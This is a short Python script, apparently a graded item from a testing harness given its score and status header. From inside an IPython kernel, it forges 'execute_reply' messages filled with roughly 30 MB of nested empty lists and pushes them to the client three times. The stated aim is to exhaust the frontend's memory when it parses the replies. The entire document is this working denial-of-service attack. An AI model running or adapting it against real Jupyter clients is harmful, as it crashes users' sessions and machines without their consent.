# aim: replies of thirty megabytes of empty lists, each of which takes thirty times as much memory when it is read
# answers: right
# score: 17
# status: graded|stopped
# prints: nothing
# repeats: ten
from IPython import get_ipython

kernel = get_ipython().kernel
stream = getattr(kernel, "shell_stream", None) or kernel.shell_socket
many = b'{"status": "ok", "x": [' + b"[]," * 10_000_000 + b"[]]}"
for _ in range(3):
    message = kernel.session.msg("execute_reply", {}, parent=kernel.get_parent())
    parts = kernel.session.serialize({**message, "content": many}, ident=kernel._parent_ident["shell"])
    stream.send_multipart(parts)
